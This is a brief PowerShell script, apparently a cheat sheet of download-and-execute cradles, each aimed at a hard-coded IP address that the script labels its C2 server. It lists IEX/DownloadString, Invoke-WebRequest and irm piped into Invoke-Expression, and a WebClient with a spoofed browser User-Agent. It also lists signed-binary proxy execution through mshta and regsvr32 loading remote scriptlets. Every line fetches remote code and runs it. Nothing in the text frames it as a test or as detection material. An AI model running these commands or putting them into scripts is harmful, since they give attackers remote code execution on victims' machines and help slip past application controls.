$c2 = 'http://185.220.101.47:8080'

# classic
IEX (New-Object Net.WebClient).DownloadString("$c2/a.ps1")

# PowerShell 3+ spelling, piped
Invoke-WebRequest -Uri "$c2/b.ps1" -UseBasicParsing | Select-Object -ExpandProperty Content | Invoke-Expression

# split across lines, through a variable
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
$script = $wc.DownloadString("$c2/c.ps1")
Invoke-Expression -Command $script

# irm alias, one liner
irm "$c2/d.ps1" | iex

# signed binary proxy
mshta.exe http://185.220.101.47:8080/e.hta
regsvr32.exe /s /n /u /i:http://185.220.101.47:8080/f.sct scrobj.dll
